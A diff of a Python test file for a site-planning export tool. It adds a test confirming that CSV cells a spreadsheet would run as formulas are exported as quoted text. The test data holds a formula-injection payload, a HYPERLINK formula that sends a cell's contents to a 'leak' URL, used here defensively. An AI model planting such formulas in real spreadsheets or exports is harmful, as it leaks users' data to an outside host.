@@ -3,6 +3,7 @@ with sensitive fields kept out, threat positions coarsened to their cells, and l
 
 from __future__ import annotations
 
+import csv
 import json
 import math
 import re
@@ -31,7 +32,7 @@ from planner.export import FORMATS, export
 from planner.outputs import LAYERS, Bundle, bundle, from_record
 from planner.plan import open_plan
 from planner.record import NotAllowedError, Record, RecordError, User
-from planner.redaction import Redaction
+from planner.redaction import Redaction, policy
 from planner.settings import RedactionSettings, Settings
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -390,3 +391,28 @@ def test_juba_exports_and_brief_reread_with_the_real_layers(tmp_path: Path) -> N
     html = brief_html(assessment, found)
     assert "Juba UN House PoC3" in html
     assert re.search(r"(https?:|ftp:)?//[a-z0-9]", re.sub(r"data:image/png;base64,[A-Za-z0-9+/=]+", "", html)) is None
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_arrive_as_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Alpha PoC")'
+    (tmp_path / "world").mkdir()
+    plan, layers = open_plan(
+        make_world(tmp_path / "world", sites=[("clinic", formula, 450, 550), ("school", "@SUM(1+1)", 450, 650)])
+    )
+    found = bundle(assess(plan, layers, Settings(surface={"margin_m": 300})), policy(None, RedactionSettings()))
+    export(found, "csv", tmp_path / "csv")
+    cells = []
+    for file in (tmp_path / "csv").iterdir():
+        rows = [line for line in file.read_text(encoding="utf-8-sig").splitlines() if not line.startswith("# ")]
+        cells += [cell for row in csv.reader(rows) for cell in row]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not _number(c)]  # negative numbers stay numbers
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
